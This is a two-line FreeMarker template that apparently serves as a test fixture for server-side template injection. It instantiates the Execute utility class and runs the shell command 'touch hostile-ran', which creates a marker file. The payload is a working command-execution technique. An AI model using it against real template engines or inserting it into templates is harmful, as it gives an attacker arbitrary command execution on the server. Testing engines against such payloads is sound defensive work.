[#assign run = "freemarker.template.utility.Execute"?new()]
[=run("touch hostile-ran")]
